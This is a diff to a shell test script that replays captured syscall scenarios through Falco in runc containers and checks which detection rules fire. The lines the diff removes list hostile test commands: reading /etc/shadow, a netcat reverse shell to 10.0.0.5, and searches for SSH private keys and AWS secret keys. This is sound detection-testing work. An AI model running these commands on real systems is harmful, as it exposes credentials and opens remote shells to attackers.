@@ -6,21 +6,18 @@
 #      under runc with a fake ECS task metadata endpoint: each scenario (a command and the rule it must raise)
 #      becomes a scap capture written by the capture encoder (SCENARIO_CAPTURE) that Falco replays
 #      (engine.kind=replay); the alerts must be exactly that rule, as JSON lines carrying the container
-#      identity the endpoint gave; a benign command must raise nothing;
-#  (c) live, as in a task: engine.kind=nodriver with the capture plugin (libkiltcap.so) reading a feed
-#      (SCAP_SCENARIO feed, the capture's test scenario) at $KILT_CAPTURE_SOCKET.
+#      identity the endpoint gave; a benign command must raise nothing. This is the tracer cannot feed yet: tests/falco/task.sh runs the others live, in a task.
 # Needs root (runc). Run by `make test-falco`, which builds what it uses first.
 #
-# usage: tests/falco/run.sh TREE SCENARIO_CAPTURE SCAP_SCENARIO
+# usage: tests/falco/run.sh TREE SCENARIO_CAPTURE
 set -uo pipefail
 cd "$(dirname "$0")/../.."
 T_NAME=falco
 . tests/lib/testlib.sh
 
-[ $# = 3 ] || { echo "usage: tests/falco/run.sh TREE SCENARIO_CAPTURE SCAP_SCENARIO"; exit 2; }
+[ $# = 2 ] || { echo "usage: tests/falco/run.sh TREE SCENARIO_CAPTURE"; exit 2; }
 TREE=$(realpath "$1")
 SCENARIO_CAPTURE=$(realpath "$2")
-SCAP_SCENARIO=$(realpath "$3")
 [ "$(id -u)" = 0 ] || { echo "tests/falco: needs root (runc)"; exit 1; }
 for t in runc jq python3 busybox; do
   command -v $t >/dev/null || { echo "tests/falco: '$t' is missing; run 'make deps'"; exit 1; }
@@ -74,7 +71,7 @@ run_container() {
                    {destination: "/cap", type: "bind", source: $cap, options: ["rbind", "ro"]}]' \
      < "$b/config.json" > "$b/config.new" && mv "$b/config.new" "$b/config.json"
   OUT=$b/out ERR=$b/err
-  runc --root "$RUNC_ROOT" run --bundle "$b" "kilt-falco-test-$name-$$" > "$OUT" 2> "$ERR" < /dev/null
+  timeout -k 5 120 runc --root "$RUNC_ROOT" run --bundle "$b" "kilt-falco-test-$name-$$" > "$OUT" 2> "$ERR" < /dev/null
   RC=$?
   runc --root "$RUNC_ROOT" delete -f "kilt-falco-test-$name-$$" >/dev/null 2>&1
   return 0
@@ -158,13 +155,13 @@ for _ in $(seq 100); do [ -s "$T/port" ] && break; sleep 0.05; done
 PORT=$(cat "$T/port")
 ECS_ENV=$(jq -cn --arg u "http://127.0.0.1:$PORT/v4/$DOCKER_ID" '["ECS_CONTAINER_METADATA_URI_V4=" + $u]')
 
-# One scenario: the rule that must fire ("-" for none) | the command. Each is replayed alone.
+# One scenario: the rule that must fire ("-" for none) | the command. Each is replayed alone. Only what the
+# tracer cannot produce yet is here; everything it can is run for real by tests/falco/task.sh.
+#  - "Disallowed SSH Connection Non Standard Port": its `outbound` macro needs the local end of the connect
+#    tuple (fd.ip != 0.0.0.0 holds only when both ends differ from it); the tracer writes 0.0.0.0:0 there.
 SCENARIOS=(
-  "Read sensitive file untrusted|cat /etc/shadow"
-  "Netcat Remote Code Execution in Container|nc -e /bin/sh 10.0.0.5 4444"
-  "Search Private Keys or Passwords|find / -name id_rsa"
-  "Find AWS Credentials|grep -r aws_secret_access_key /root"
-  "-|ls -l /tmp"
+  "Disallowed SSH Connection Non Standard Port|ssh 198.51.100.7 443"
+  "-|ssh 198.51.100.7 22"
 )
 n=0
 for s in "${SCENARIOS[@]}"; do
@@ -198,34 +195,5 @@ for s in "${SCENARIOS[@]}"; do
 done
 check "start reported the identity from the metadata endpoint" \
   grep -q "^kilt-falco-start: container id=$DOCKER_ID name=web image=registry.example/shop/web:1.2 platform=ecs task=$TASK_ARN (from ECS task metadata v4)\$" "$ERR"
-
-# ---- (c) live -------------------------------------------------------------------------------------------
-echo "# live: engine.kind=nodriver, the capture plugin reading a feed at \$KILT_CAPTURE_SOCKET"
-ADDRESS="@kilt-falco-test-$$"
-"$SCAP_SCENARIO" feed "$ADDRESS" 60000 2> "$T/feed.err" &
-BG+=($!)
-LIVE_ENV=$(jq -c --arg a "KILT_CAPTURE_SOCKET=$ADDRESS" '. + [$a]' <<<"$ECS_ENV")
-run_container live "$T/scratch" "$LIVE_ENV" /kilt/falco/start &
-LIVE=$!
-BG+=($LIVE)
-LOUT=$T/bundle-live/out
-live_rules() { grep -o '"rule":"[^"]*"' "$LOUT" 2>/dev/null | sort -u | wc -l; }
-for _ in $(seq 600); do   # the capture's scenario raises 11 rules (tests/capture/falco_test.sh)
-  [ "$(live_rules)" -ge 11 ] && break
-  kill -0 "$LIVE" 2>/dev/null || break
-  sleep 0.1
-done
-runc --root "$RUNC_ROOT" kill "kilt-falco-test-live-$$" TERM 2>/dev/null
-wait "$LIVE"
-LERR=$T/bundle-live/err
-check "live: Falco opened the capture plugin as its syscall source" \
-  grep -q "Opening 'syscall' source with plugin 'kiltcap'" "$LERR"
-check "live: the plugin connected to the feed and read it" grep -q "events sent" "$T/feed.err"
-live_alert=$(grep '"rule":"Read sensitive file untrusted"' "$LOUT" | head -1)
-expect_contains "live: 'Read sensitive file untrusted' fires" '"proc.name":"cat"' "$live_alert"
-expect_contains "live: with the ECS DockerId as container.id" "\"container.id\":\"$DOCKER_ID\"" "$live_alert"
-expect_contains "live: and the task ARN" "\"kilt.task\":\"$TASK_ARN\"" "$live_alert"
-expect_eq "live: the capture scenario's 11 rules fire" 11 "$(live_rules)"
-check "live: Falco stops cleanly on SIGTERM" grep -q "received, exiting" "$LERR"
 
 summary
